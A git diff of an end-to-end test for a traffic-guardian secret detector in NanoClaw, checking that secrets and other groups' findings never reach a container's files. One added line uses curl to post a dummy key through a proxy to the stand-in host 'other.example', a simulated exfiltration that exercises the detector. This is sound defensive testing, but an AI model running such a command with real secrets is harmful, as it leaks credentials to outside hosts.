@@ -16,6 +16,7 @@ if (reason !== undefined) console.log(`skipped: ${reason}`);
 
 /** A key of a form that the detector knows and that nobody uses; it must turn up nowhere but in the traffic. */
 const KEY = generateSecrets(2)[1] ?? '';
+const OTHER_GROUP = 'somebody-else';
 const TOOL = 'mcp__traffic-guardian__clawsec_traffic_findings';
 
 (reason === undefined ? describe : describe.skip)('in a real NanoClaw', () => {
@@ -49,6 +50,7 @@ const TOOL = 'mcp__traffic-guardian__clawsec_traffic_findings';
     const once = nanoclaw.status();
     const second = JSON.parse((await execa(process.execPath, [program, ...install])).stdout) as Installed;
     expect(second.changes).toEqual([]);
+    await nanoclaw.useFreePort();
     expect(nanoclaw.status()).toBe(once);
     expect(nanoclaw.git('diff', '--name-only').split('\n')).toEqual([
       'src/container-runner.ts',
@@ -92,7 +94,11 @@ const TOOL = 'mcp__traffic-guardian__clawsec_traffic_findings';
     expect(JSON.stringify(findings)).not.toContain(KEY);
   }, 300_000);
 
-  test('nothing secret enters the container', () => {
+  test('nothing secret enters the container', async () => {
+    // A finding of somebody else, which this container must not see.
+    const other = (JSON.parse(await guardian('agents', 'url', OTHER_GROUP, '--json')) as { url: string }).url;
+    await execa('curl', ['-s', '-k', '-x', other, '-d', KEY, 'https://other.example/'], { reject: false });
+    await nanoclaw.until(() => readJournal(nanoclaw.root).includes(OTHER_GROUP), 'the other group has a finding');
     const lines = nanoclaw.commandLines();
     expect(lines.length).toBeGreaterThan(0);
     const state = join(nanoclaw.root, 'data/traffic-guardian');
@@ -165,9 +171,9 @@ interface Installed {
 }
 
 /** Where an answer goes: NanoClaw names the destinations in the system prompt. */
-function destination({ system, messages }: ModelRequest): string {
-  const text = JSON.stringify(system) + JSON.stringify(messages);
-  return /to=\\+"([a-z0-9][\w-]*)\\+"/i.exec(text)?.[1] ?? /\*\*([\w-]+)\*\*|`([\w-]+)`/.exec(text)?.[1] ?? 'cli';
+function destination({ system }: ModelRequest): string {
+  const text = JSON.stringify(system);
+  return /(?:Your destination is|\\n-) `([^`]+)`/.exec(text)?.[1] ?? 'unknown';
 }
 
 function lastToolResult({ messages }: ModelRequest): string {
@@ -194,10 +200,16 @@ function filesBelow(place: string): string[] {
   }
 }
 
-/** Private keys, the gateway's token and findings that a container could read in a file. */
+function readJournal(root: string): string {
+  return filesBelow(join(root, 'data/traffic-guardian/log/findings'))
+    .map((file) => readFileSync(file, 'utf8'))
+    .join('');
+}
+
+/** Private keys, the gateway's token and findings of others that a container could read in a file. */
 function secretsIn(file: string): string[] {
   const text = readFileSync(file, 'latin1');
-  const wrong = ['aoc_e2e_token', '"clawsec-traffic-finding/v1"'].filter((each) => text.includes(each));
+  const wrong = ['aoc_e2e_token', OTHER_GROUP].filter((each) => text.includes(each));
   // Programs and their documentation may name the form of a key; a key has a body.
   if (/-----BEGIN [A-Z ]*PRIVATE KEY-----\s+[A-Za-z0-9+/=]{40}/.test(text)) wrong.push('a private key');
   return wrong.map((each) => `${file}: ${each}`);
